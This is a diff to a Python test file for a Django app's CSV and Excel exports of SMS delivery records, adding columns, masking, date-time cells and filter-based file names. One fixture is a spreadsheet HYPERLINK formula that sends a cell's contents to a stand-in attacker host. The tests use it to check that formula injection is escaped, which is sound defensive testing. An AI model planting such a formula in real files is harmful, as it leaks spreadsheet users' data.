@@ -3,7 +3,10 @@
 Pinned on the tablib exports (django-tables2's ``TableExport``) before they were streamed, so the
 streamed ones can be seen to write the same files: the columns, headers and order, the times in
 China time, the status as its word, codes masked, the explanation column, and every cell that a
-spreadsheet would read as a formula after a quote.
+spreadsheet would read as a formula after a quote. Changed on purpose since, for files that
+travel (issue 15): a UTF-8 byte order mark first, the number (masked for Managers), the sign,
+the BizId, the fetch time and the RequestId of the row's page as columns, Excel's times as
+date-time cells, its sheet named in the page's language, the file named after the filters.
 """
 
 from __future__ import annotations
@@ -25,6 +28,8 @@ PHONE = "13900000077"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 CODE_TEXT = "【云雀科技】验证码482913，您正在登录云雀账号，5分钟内有效。"
 BILL = '+86 提醒：您的账单已出, 请查收 "本月"\n第二行'
+REQUEST_ID = "F4BC57C8-E8EA-4405-9B0C-93A16EFE19E8"
+BOM = "\ufeff"
 
 
 def at(day, hour: int, minute: int, second: int) -> datetime:
@@ -41,6 +46,7 @@ def stored(past_day):
         fetched_at=timezone.now(),
         total_count=6,
         stored_count=6,
+        request_ids=[REQUEST_ID, "second-page-id"],
     )
     waiting_since = timezone.now() - timedelta(hours=30)
     # In upstream's order, newest send first: the waiting one was sent last.
@@ -69,7 +75,10 @@ def stored(past_day):
     return waiting_since
 
 
-HEADER = "Sent,Received,Status,Error code,Template,Content,OutId,What it means\r\n"
+HEADER = (
+    BOM + "Sent,Received,Phone number,Status,Error code,Sign,Template,Content,OutId,BizId,"
+    "What it means,Fetched,RequestId\r\n"
+)
 OUT_OF_SERVICE = (
     "The number is out of service (suspended, unassigned, switched off or out of coverage)."
 )
@@ -79,19 +88,25 @@ NO_RECEIPT = (
 )
 
 
+def china_time(moment) -> str:
+    return timezone.localtime(moment).strftime("%Y-%m-%d %H:%M:%S")
+
+
 def csv_lines(day, waiting_since) -> list[str]:
-    """The rows of the CSV export in the store's order, as the tablib export wrote them."""
-    waited = timezone.localtime(waiting_since).strftime("%Y-%m-%d %H:%M:%S")
+    """The rows of the CSV export in the store's order."""
+    waited = china_time(waiting_since)
+    fetched = china_time(Fetch.objects.get().fetched_at)
+    tail = f"{fetched},{REQUEST_ID}\r\n"
     return [
-        f"{waited},,Waiting,,SMS_4,'-5 积分已到账,,{NO_RECEIPT}\r\n",
-        f"{day} 10:00:00,{day} 10:00:05,Delivered,DELIVERED,SMS_100000001,"
-        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'-order-7,\r\n',
-        f"{day} 09:30:00,{day} 09:30:03,Delivered,DELIVERED,SMS_271935402,"
-        "【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。,,\r\n",
-        f"{day} 09:00:00,{day} 09:00:40,Failed,MOBILE_NOT_ON_SERVICE,'@SMS_3,"
-        '"\'+86 提醒：您的账单已出, 请查收 ""本月""\n第二行",\'+1,'
-        f'"{OUT_OF_SERVICE}"\r\n',
-        f"{day} 08:00:00,{day} 08:00:01,Delivered,DELIVERED,SMS_5,,order-9,\r\n",
+        f"{waited},,{PHONE},Waiting,,,SMS_4,'-5 积分已到账,,,{NO_RECEIPT},{tail}",
+        f"{day} 10:00:00,{day} 10:00:05,{PHONE},Delivered,DELIVERED,,SMS_100000001,"
+        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'-order-7,,,' + tail,
+        f"{day} 09:30:00,{day} 09:30:03,{PHONE},Delivered,DELIVERED,云雀科技,SMS_271935402,"
+        "【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。,,,," + tail,
+        f"{day} 09:00:00,{day} 09:00:40,{PHONE},Failed,MOBILE_NOT_ON_SERVICE,,'@SMS_3,"
+        '"\'+86 提醒：您的账单已出, 请查收 ""本月""\n第二行",\'+1,,'
+        f'"{OUT_OF_SERVICE}",' + tail,
+        f"{day} 08:00:00,{day} 08:00:01,{PHONE},Delivered,DELIVERED,,SMS_5,,order-9,,," + tail,
     ]
 
 
@@ -108,7 +123,7 @@ def body(response) -> bytes:
     return response.content
 
 
-def test_the_csv_export_is_the_same_file_byte_for_byte(staff, upstream, past_day, stored):
+def test_the_csv_export_is_this_file_byte_for_byte(staff, upstream, past_day, stored):
     response = export(staff, past_day, "csv")
 
     assert response.status_code == 200
@@ -139,29 +154,34 @@ def test_with_masking_off_the_csv_export_holds_the_code(
 
     text = body(export(staff, past_day, "csv")).decode()
 
-    assert f"SMS_271935402,{CODE_TEXT},," in text
+    assert f"SMS_271935402,{CODE_TEXT},,," in text
 
 
 @pytest.mark.chinese
 def test_the_csv_export_speaks_chinese(staff, upstream, past_day, stored):
-    text = body(export(staff, past_day, "csv")).decode()
+    text = body(export(staff, past_day, "csv")).decode("utf-8-sig")
 
     header, *rows = text.split("\r\n")
-    assert header == "发送时间,接收时间,状态,错误码,模板,内容,OutId,含义"
-    assert [row.split(",")[2] for row in rows if row[:4].isdigit()] == [
+    assert header == (
+        "发送时间,接收时间,手机号码,状态,错误码,签名,模板,内容,OutId,BizId,含义,获取时间,RequestId"
+    )
+    assert [row.split(",")[3] for row in rows if row[:4].isdigit()] == [
         "等待回执",
         "已送达",
         "已送达",
         "失败",
         "已送达",
     ]
-    assert rows[3].endswith(",号码无法接通（停机、空号、关机或不在服务区）。")
-    assert rows[0].endswith(",已过 1\xa0日 仍无回执，大概率不会再返回。请向客户确认是否收到短信。")
+    assert ",号码无法接通（停机、空号、关机或不在服务区）。," in rows[3]
+    assert ",已过 1\xa0日 仍无回执，大概率不会再返回。请向客户确认是否收到短信。," in rows[0]
 
 
 def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored):
-    waited = timezone.localtime(stored).strftime("%Y-%m-%d %H:%M:%S")
-    day = past_day.isoformat()
+    waited = timezone.localtime(stored).replace(tzinfo=None, microsecond=0)
+    fetched = timezone.localtime(Fetch.objects.get().fetched_at).replace(tzinfo=None, microsecond=0)
+
+    def china(hour, minute, second):
+        return datetime.combine(past_day, time(hour, minute, second))
 
     response = export(staff, past_day, "xlsx")
 
@@ -173,68 +193,121 @@ def test_the_excel_export_holds_the_same_cells(staff, upstream, past_day, stored
     book = openpyxl.load_workbook(io.BytesIO(body(response)))
     sheet = book.active
     assert (book.sheetnames, sheet.title, sheet.freeze_panes) == (
-        ["Sms Records"],
-        "Sms Records",
+        ["SMS records"],
+        "SMS records",
         "A2",
     )
     values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    tail = [fetched, REQUEST_ID]
     assert values == [
         [
-            "Sent",
-            "Received",
-            "Status",
-            "Error code",
-            "Template",
-            "Content",
-            "OutId",
-            "What it means",
+            *("Sent", "Received", "Phone number", "Status", "Error code", "Sign", "Template"),
+            *("Content", "OutId", "BizId", "What it means", "Fetched", "RequestId"),
         ],
-        [waited, None, "Waiting", None, "SMS_4", "'-5 积分已到账", None, NO_RECEIPT],
         [
-            f"{day} 10:00:00",
-            f"{day} 10:00:05",
-            "Delivered",
-            "DELIVERED",
-            "SMS_100000001",
-            "'" + HYPERLINK,
-            "'-order-7",
+            waited,
             None,
+            PHONE,
+            "Waiting",
+            None,
+            None,
+            "SMS_4",
+            "'-5 积分已到账",
+            None,
+            None,
+            NO_RECEIPT,
+            *tail,
         ],
         [
-            f"{day} 09:30:00",
-            f"{day} 09:30:03",
-            "Delivered",
-            "DELIVERED",
+            *(china(10, 0, 0), china(10, 0, 5), PHONE, "Delivered", "DELIVERED", None),
+            *("SMS_100000001", "'" + HYPERLINK, "'-order-7", None, None, *tail),
+        ],
+        [
+            *(china(9, 30, 0), china(9, 30, 3), PHONE, "Delivered", "DELIVERED", "云雀科技"),
             "SMS_271935402",
             "【云雀科技】验证码******，您正在登录云雀账号，5分钟内有效。",
-            None,
-            None,
+            *(None, None, None, *tail),
         ],
         [
-            f"{day} 09:00:00",
-            f"{day} 09:00:40",
-            "Failed",
-            "MOBILE_NOT_ON_SERVICE",
-            "'@SMS_3",
-            "'" + BILL,
-            "'+1",
-            OUT_OF_SERVICE,
+            *(china(9, 0, 0), china(9, 0, 40), PHONE, "Failed", "MOBILE_NOT_ON_SERVICE", None),
+            *("'@SMS_3", "'" + BILL, "'+1", None, OUT_OF_SERVICE, *tail),
         ],
         [
-            f"{day} 08:00:00",
-            f"{day} 08:00:01",
-            "Delivered",
-            "DELIVERED",
-            "SMS_5",
-            None,
-            "order-9",
-            None,
+            *(china(8, 0, 0), china(8, 0, 1), PHONE, "Delivered", "DELIVERED", None, "SMS_5"),
+            *(None, "order-9", None, None, *tail),
         ],
     ]
     cells = [cell for row in sheet.iter_rows() for cell in row]
-    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
+    times = [cell for cell in cells if isinstance(cell.value, datetime)]
+    assert {cell.column_letter for cell in times} == {"A", "B", "L"}
+    assert {cell.number_format for cell in times} == {"yyyy-mm-dd hh:mm:ss"}
+    assert {cell.data_type for cell in cells if cell.value is not None} == {"s", "d"}
     assert all(cell.font.b for cell in sheet[1])
-    assert [cell.coordinate for cell in cells if cell.alignment.wrap_text] == ["F5"]
+    assert [cell.coordinate for cell in cells if cell.alignment.wrap_text] == ["H5"]
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ACHM"}
+    assert widths == {"A": 20, "C": 16, "H": 60, "M": 38}
+
+
+@pytest.mark.chinese
+def test_the_excel_sheet_is_named_in_the_pages_language(staff, upstream, past_day, stored):
+    sheet = openpyxl.load_workbook(io.BytesIO(body(export(staff, past_day, "xlsx")))).active
+
+    assert sheet.title == "短信记录"
+    assert [cell.value for cell in sheet[1]][:4] == ["发送时间", "接收时间", "手机号码", "状态"]
+
+
+def test_a_manager_exports_the_number_masked_as_the_page_shows_it(
+    manager, upstream, past_day, stored
+):
+    response = export(manager, past_day, "csv")
+
+    masked = "139****0077"
+    rows = body(response).decode("utf-8-sig").split("\r\n")[1:-1]
+    assert [row.split(",")[2] for row in rows if row[:4].isdigit()] == [masked] * 5
+    assert PHONE not in body(response).decode()
+    assert 'filename="sms-139xxxx0077-' in response["Content-Disposition"]
+
+
+def test_each_row_names_the_request_id_of_its_page(staff, upstream, past_day, stored):
+    SmsRecord.objects.filter(position=4).update(position=50)  # the second page's first record
+
+    rows = body(export(staff, past_day, "csv")).decode("utf-8-sig").split("\r\n")
+
+    assert rows[-2].endswith(",second-page-id")
+    assert rows[1].endswith(f",{REQUEST_ID}")
+
+
+def test_a_fetch_without_an_id_for_the_rows_page_gives_its_first(staff, upstream, past_day, stored):
+    SmsRecord.objects.filter(position=4).update(position=120)  # page 3 of a fetch with 2 ids
+
+    rows = body(export(staff, past_day, "csv")).decode("utf-8-sig").split("\r\n")
+
+    assert rows[-2].endswith(f",{REQUEST_ID}")
+
+
+def test_the_file_name_says_the_filters(staff, upstream, past_day, stored):
+    first = past_day - timedelta(days=1)
+    params = {"date_to": past_day.isoformat(), "status": "failed", "template": "SMS_3"}
+
+    response = staff.get(
+        "/", {"phone": PHONE, "date": first.isoformat(), "_export": "csv", **params}
+    )
+
+    name = f"sms-{PHONE}-{first:%Y%m%d}-{past_day:%Y%m%d}-failed-SMS_3.csv"
+    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
+
+
+def test_a_chinese_text_filter_is_named_in_utf8_beside_an_ascii_name(
+    staff, upstream, past_day, stored
+):
+    response = export(staff, past_day, "xlsx", q="积分", biz_id="900619746936498440^0")
+
+    day = f"{past_day:%Y%m%d}"
+    ascii_name = f"sms-{PHONE}-{day}-900619746936498440_0-_.xlsx"
+    utf8_name = f"sms-{PHONE}-{day}-900619746936498440_0-%E7%A7%AF%E5%88%86.xlsx"
+    assert response["Content-Disposition"] == (
+        f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{utf8_name}"
+    )
 
 
 # Since the exports are streamed.
@@ -274,6 +347,6 @@ def test_a_control_character_from_upstream_does_not_break_the_excel_export(
     csv_export = export(staff, past_day, "csv")
     xlsx_export = export(staff, past_day, "xlsx")
 
-    assert "escape \x1b[31m" in body(csv_export).decode()
+    assert "escape \x1b[31m" in body(csv_export).decode("utf-8-sig")
     sheet = openpyxl.load_workbook(io.BytesIO(body(xlsx_export))).active
-    assert sheet["F2"].value == "escape \ufffd[31m"
+    assert sheet["H2"].value == "escape \ufffd[31m"
